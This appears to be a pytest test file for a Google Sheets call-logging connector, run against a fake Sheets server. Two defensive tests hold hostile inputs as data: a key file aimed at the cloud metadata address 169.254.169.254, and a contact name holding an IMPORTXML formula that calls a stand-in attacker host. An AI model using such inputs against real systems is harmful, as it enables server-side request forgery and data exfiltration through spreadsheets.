"""Google Sheets: with canned replies, and against its judged stand-in."""

import json
from dataclasses import replace

import pytest

from connector.crms.google_sheets import GoogleSheets
from connector.crms.google_sheets_api import letters_of
from connector.errors import (
    CredentialsRejected,
    InvalidSettings,
    PermanentError,
    RateLimited,
    TemporaryError,
    UnknownOutcome,
)
from connector.http.session import open_session
from connector.registry import get_platform
from connector.testing import (
    SAMPLE_CALL,
    HttpConnectorConformance,
    create_call_log,
)
from connector.testing.samples import SECRET
from connector.types import Contact, Credentials, CrmUser
from tests.connector.crms.stand_in import ADA, StandInConformance, judged, log, save
from tests.support.fakes.google_sheets import (
    ACCESS_SECONDS,
    FakeSheets,
    TokenJudge,
    key_file,
    sheets_judge,
)
from tests.support.fakes.server import Answer, Request, StandInAdapter

BEA, CASEY = "+15105550101", "+15105550177"
BEN = CrmUser(id="ben@example.com", name="Ben Brown")
TITLES = ["Call ID", "Contact", "Owner", "Details"]


def values(*rows):
    return {"range": "A1:D9", "majorDimension": "ROWS", "values": [*rows]}


class TestGoogleSheets(HttpConnectorConformance):
    connector_class = GoogleSheets
    credentials = Credentials(
        server_logging_settings={
            "spreadsheetId": FakeSheets.spreadsheet_id,
            "serviceAccountKey": key_file(),
        }
    )
    signed_in = {"token": SECRET}
    contact_reply = values(["Name", "Phone"], ["Ada", "+1 510-555-0100"])
    no_contact_reply = values(["Name", "Phone"])
    replies_before_creation = [(200, values(TITLES))]
    call_log_reply = {"updates": {"updatedRange": "Calls!A2:D2"}}
    user_list_reply = values(["Name", "Email"], ["Ann", "ann@example.com"])


@pytest.fixture
def fake():
    with judged(FakeSheets(), [sheets_judge(), TokenJudge()]) as fake:
        yield fake


@pytest.fixture
def connect(fake):
    """A function that opens the connector at the stand-in."""

    def connect(**settings):
        session = open_session()
        session.mount("https://", StandInAdapter(fake))
        credentials = Credentials(server_logging_settings={**fake.settings, **settings})
        connector = GoogleSheets(credentials, session=session)
        connector.region = "US"
        return connector

    return connect


class TestGoogleSheetsLive(StandInConformance):
    create_path = ":append"

    @pytest.fixture
    def rejected(self, connect, fake):
        fake.is_account_enabled = False
        return connect()

    def owner_of(self, connector, log_id):
        [owner] = [c["Owner"] for c in self.fake.calls if c["Call ID"] == log_id]
        return owner.partition("(")[2].rstrip(")")

    def delete(self, connector, log_id):
        self.fake.tabs["Calls"] = [
            row for row in self.fake.tabs["Calls"] if log_id not in row
        ]


def test_calls_are_logged_by_the_service_account():
    declared = get_platform("googleSheets").server_side_logging

    assert declared.uses_service_account
    assert [f.const for f in declared.additional_fields if f.is_secret] == [
        "serviceAccountKey"
    ]


def test_spreadsheet_is_the_user_and_has_a_time_zone(connect):
    user = connect().get_user_info()

    assert (user.name, user.time_zone) == ("Acme's calls", "America/New_York")


def test_ended_sign_in_is_renewed(connect, fake):
    connector = connect()
    connector.find_contact(ADA)
    fake.advance(ACCESS_SECONDS)

    assert connector.find_contact(ADA)
    assert len(fake.requests_to("/token")) == 2


def test_address_in_the_key_file_is_not_asked(connect, fake):
    """Who pastes a file could have the server ask any host."""
    connect(
        serviceAccountKey=key_file(address="http://169.254.169.254/")
    ).get_user_info()

    hosts = {request.headers["host"] for request in fake.requests}
    assert hosts == {"oauth2.googleapis.com", "sheets.googleapis.com"}


def test_users_are_those_with_an_address(connect):
    users = connect().get_user_list()

    assert [(user.id, user.name, user.email) for user in users] == [
        ("ann@example.com", "Ann Agent", "Ann@example.com"),
        ("ben@example.com", "Ben Brown", "ben@example.com"),
    ]


@pytest.mark.parametrize(("number", "name"), [(ADA, "Ada Example"), (BEA, "Bea")])
def test_contact_is_found_by_number_or_text_in_each_column(connect, number, name):
    [contact] = connect().find_contact(number)

    assert contact.name == name


def test_row_without_a_number_is_nobody(connect):
    assert connect().find_contact(CASEY) == []


def test_contact_has_the_id_that_people_gave_it(connect, fake):
    titles, ada, *_ = fake.tabs["Contacts"]
    before = connect().find_contact(ADA)[0].id
    titles.append("ID")
    ada += ["", "A-7"]

    assert connect().find_contact(ADA)[0].id == "A-7" != before


def test_call_is_a_row_below_the_titles_wherever_they_are(connect, fake):
    call = replace(SAMPLE_CALL, recording_url="https://player.example.com/?media=x")

    log_id = log(connect(), call, owner=BEN)

    assert log_id == call.marker
    assert fake.tabs["Calls"][1:] == [
        [
            *(f"{call.local_start:%Y-%m-%d %H:%M %Z}", "Ada Example"),
            *("Ben Brown (ben@example.com)", "Inbound", "Accepted", 65, None),
            *("Summary", "https://player.example.com/?media=x", "rc:sample"),
        ]
    ]


def test_name_that_looks_like_a_formula_stays_text(connect, fake):
    contact = Contact(id="1", name='=IMPORTXML("https://evil.example")')

    create_call_log(connect(), owner=None, contact=contact)

    assert fake.requests[-1].query["valueInputOption"] == "RAW"
    assert fake.calls[0]["Contact"] == contact.name


def test_update_writes_what_changed_into_the_row_that_has_moved(connect, fake):
    connector = connect()
    log_id = log(connector)
    fake.tabs["Calls"].insert(1, ["A line of people's own"])
    fake.tabs["Calls"][2][6] = "Call back on Monday"

    longer = replace(SAMPLE_CALL, duration_seconds=600, previous=SAMPLE_CALL)
    connector.update_call_log(log_id, longer, composed_log_details="New")

    own, row = fake.calls
    assert own == {"Started": "A line of people's own"}
    assert (row["Details"], row["Duration"]) == ("New", longer.logged_seconds)
    assert row["Follow-up"] == "Call back on Monday"
    assert {d["range"] for d in fake.requests[-1].json["data"]} <= {
        "Calls!F3",
        "Calls!H3",
    }


def test_update_of_a_deleted_row_writes_nothing(connect, fake):
    connector = connect()
    log_id = log(connector)
    del fake.tabs["Calls"][1]

    with pytest.raises(PermanentError, match="not there any more"):
        connector.update_call_log(log_id, SAMPLE_CALL, composed_log_details="New")

    assert fake.calls == []


def test_created_contact_is_found_by_its_number(connect):
    connector = connect()

    created = connector.create_contact(CASEY, name="Unknown caller")

    [found] = connector.find_contact(CASEY)
    assert (found.id, found.name) == (created.id, "Unknown caller")


def test_letters_of_columns_go_on_after_z():
    assert [letters_of(n) for n in (0, 25, 26, 51, 52, 701, 702)] == [
        *("A", "Z", "AA", "AZ", "BA", "ZZ", "AAA"),
    ]


@pytest.mark.parametrize(
    ("request_", "fault"),
    [
        (
            Request("POST", "/v4/spreadsheets/x/values/Calls!A1:append", {},
                    {"content-type": "application/json"}, '{"values": [[1]]}'),
            "query valueInputOption: is required and missing",
        ),
        (
            Request("GET", "/v4/spreadsheets/x/values/Calls", {"dimension": "ROWS"}, {}, ""),
            "query dimension: is not described",
        ),
    ],
)  # fmt: skip
def test_fault_is_found_in_requests(request_, fault):
    assert sheets_judge().faults(request_, None) == [fault]


# What an admin reads when something is wrong


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("AIzaSyAnApiKey", "not the key file of a service account"),
        ("[]", "not the key file of a service account"),
        ('{"client_email": 7}', "not the key file of a service account"),
        ('{"client_email": "a@b.c"}', "no private key in it"),
    ],
)
def test_file_that_is_no_key_is_named_at_its_field(connect, text, message):
    with pytest.raises(InvalidSettings, match=message) as caught:
        save(connect(serviceAccountKey=text))

    assert caught.value.const == "serviceAccountKey"


def test_deleted_key_is_named_before_it_is_saved(connect):
    about = json.loads(key_file()) | {"client_email": "gone@example.com"}

    with pytest.raises(CredentialsRejected, match="deleted or disabled") as caught:
        save(connect(serviceAccountKey=json.dumps(about)))

    assert "account not found" in caught.value.full_message


def test_unknown_spreadsheet_is_named_at_its_field(connect):
    with pytest.raises(InvalidSettings, match="no spreadsheet with this ID") as caught:
        save(connect(spreadsheetId="another-spreadsheet-id"))

    assert caught.value.const == "spreadsheetId"


def test_spreadsheet_that_is_not_shared_is_named_before_it_is_saved(connect, fake):
    fake.role = ""

    with pytest.raises(PermanentError, match="as an Editor"):
        save(connect())


def test_right_to_edit_that_is_missing_is_named_with_the_first_call(connect, fake):
    fake.role = "reader"
    save(connect())

    with pytest.raises(PermanentError, match="as an Editor"):
        log(connect())


def test_api_that_is_not_enabled_is_named(connect, fake):
    fake.is_api_enabled = False

    with pytest.raises(PermanentError, match="Sheets API is not enabled"):
        save(connect())


@pytest.mark.parametrize("tab", ["Contacts", "Users", "Calls"])
def test_missing_tab_is_named(connect, fake, tab):
    del fake.tabs[tab]

    with pytest.raises(PermanentError, match=f"no tab “{tab}”"):
        save(connect())


@pytest.mark.parametrize(
    ("titles", "message"),
    [
        ([], "has no column “Call ID”"),
        (["Call ID", "Contact", "Details"], "has no column “Owner”"),
        ([*TITLES, "", "Mine"], "a column without a title"),
    ],
)
def test_missing_title_is_named(connect, fake, titles, message):
    fake.tabs["Calls"] = [titles]

    with pytest.raises(PermanentError, match=message):
        save(connect())
    with pytest.raises(PermanentError, match=message):
        log(connect())


def test_used_up_quota_waits(connect, fake):
    fake.next_answers["Contacts"] = [Answer(429, {"error": {"message": "Quota"}})]

    with pytest.raises(RateLimited):
        connect().find_contact(ADA)


@pytest.mark.parametrize("body", ["<html>Down for maintenance</html>", {}, []])
def test_odd_answer_is_neither_nobody_nor_a_record(connect, fake, body):
    connector = connect()
    [contact] = connector.find_contact(ADA)

    fake.next_answers["Contacts"] = [Answer(200, body)]
    with pytest.raises(TemporaryError):
        connector.find_contact(ADA)
    fake.next_answers["append"] = [Answer(200, body)]
    with pytest.raises(UnknownOutcome):
        create_call_log(connector, owner=None, contact=contact)
    assert fake.calls == []
